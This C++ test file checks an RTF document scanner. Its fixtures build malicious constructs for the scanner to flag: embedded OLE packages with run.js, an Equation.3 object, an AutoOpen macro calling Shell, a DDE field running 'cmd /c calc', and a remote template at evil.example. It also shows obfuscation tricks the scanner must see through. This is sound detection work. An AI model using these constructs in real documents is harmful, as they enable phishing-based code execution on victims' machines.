#include "analyzer/documents/rtf_document.h"

#include <catch2/catch.hpp>

#include "analyzer/documents/inspect_documents.h"
#include "base/hex.h"
#include "tests/support/ole_writer.h"

using namespace secondlook;
using test::little_endian;

namespace {

DocumentFindings inspect(const std::string& body) {
  return inspect_document("{\\rtf1 " + body + "}", "application/rtf", "a.doc");
}

std::string detail_of(const DocumentFindings& findings, std::string_view name) {
  for (const DocumentFact& fact : findings.facts())
    if (fact.name == name) return fact.detail;
  return "no such fact";
}

std::string name_field(const std::string& name) {
  return little_endian(name.size() + 1, 4) + name + '\0';
}

std::string ole1(const std::string& class_name, const std::string& native) {
  return little_endian(0x501, 4) + little_endian(2, 4) + name_field(class_name) +
         little_endian(0, 4) + little_endian(0, 4) + little_endian(native.size(), 4) + native;
}

std::string digits(const std::string& bytes) {
  std::string text;
  for (const char c : bytes) {
    text += "0123456789abcdef"[static_cast<unsigned char>(c) >> 4U];
    text += "0123456789ABCDEF"[static_cast<unsigned char>(c) & 15U];
  }
  return text;
}

std::string object(const std::string& data) {
  return "{\\object\\objemb{\\*\\objdata " + data + "}}";
}

const std::string kProgram = ole1("Package", test::ole_package("run.js", "x"));

}  // namespace

TEST_CASE("a packaged program in an RTF") {
  const auto found = inspect(object(digits(kProgram)));
  CHECK(detail_of(found, "ole_program") == "run.js");
  CHECK(found.holds("ole_package"));
  CHECK(found.unseen().empty());
}

TEST_CASE("blanks, groups, unknown words and binary runs between the digits do not hide it") {
  const std::string plain = digits(kProgram);
  std::string spread;
  for (std::size_t i = 0; i < plain.size(); ++i) {
    spread += plain[i];
    if (i % 7 == 0) spread += "\r\n \t";
    if (i == 20) spread += "{\\*\\unknown 1234}";
    if (i == 31) spread += "{{}}\\par\\sb0 ";
  }
  CHECK(inspect(object(spread)).holds("ole_program"));
  CHECK(inspect("{\\object{\\objdata {" + plain + "}}}").holds("ole_program"));
  CHECK(inspect("{\\*\\shpinst{\\sp{\\*\\other{\\object{\\*\\objdata " + plain + "}}}}}")
            .holds("ole_program"));
  const std::string half = kProgram.substr(30);
  CHECK(inspect(object(digits(kProgram.substr(0, 30)) + "\\bin" + std::to_string(half.size()) +
                       " " + half))
            .holds("ole_program"));
  CHECK(inspect(object(plain.substr(0, 41) + "\\'11" + plain.substr(40))).holds("ole_program"));
}

TEST_CASE("a file that ends within the object is read as far as it goes") {
  CHECK(inspect_document("{\\rt{\\object{\\*\\objdata " + digits(kProgram), "application/rtf", "")
            .holds("ole_program"));
}

TEST_CASE("an equation, by the object's class or by what the file says of it") {
  CHECK(detail_of(inspect(object(digits(ole1("eQuation.3", "shell code")))), "equation_object") ==
        "eQuation.3");
  CHECK(inspect("{\\object{\\*\\objclass Equation.3}}").holds("equation_object"));
  CHECK(inspect("The word Equation.3 in a text").facts().empty());
}

TEST_CASE("a compound file in an object is looked into, behind a damaged header too") {
  const std::string file =
      test::make_ole(test::vba_project("Macros", {{"m", "Sub AutoOpen()\r\nShell x"}}));
  CHECK(inspect(object(digits(ole1("Word.Document.8", file)))).holds("macro_acts"));
  CHECK(inspect(object(digits("damaged header" + file))).holds("macro_acts"));
  CHECK(inspect(object(digits(std::string(30, '\xFF')))).unseen() ==
        std::vector<std::string>{"an object in it is damaged"});
}

TEST_CASE("a template from the web") {
  const auto found = inspect("{\\*\\template http\\'3a//evil.example/\\u116?.dotm}");
  CHECK(detail_of(found, "external_template") == "http://evil.example/t.dotm");
  CHECK(found.urls() == std::vector<std::string>{"http://evil.example/t.dotm"});
  CHECK(inspect("{\\*\\template C:\\\\Templates\\\\a.dot}").facts().empty());
}

TEST_CASE("fields: DDE and links") {
  CHECK(inspect("{\\field{\\*\\fldinst {\\b DDE}AUTO cmd \"/c calc\"}{\\fldrslt x}}").holds("dde"));
  const auto link =
      inspect("{\\field{\\*\\fldinst HYPERLINK \"https://a.example/\"}{\\fldrslt DDE x}}");
  CHECK(link.facts().empty());
  CHECK(link.urls() == std::vector<std::string>{"https://a.example/"});
}

TEST_CASE("groups without end and numbers without bound do no harm") {
  CHECK(inspect(std::string(2 << 20, '{')).unseen() ==
        std::vector<std::string>{"groups nested too deep"});
  CHECK(inspect("\\bin99999999999999999999 x").facts().empty());
  CHECK(inspect(std::string(1000, '}')).facts().empty());
}
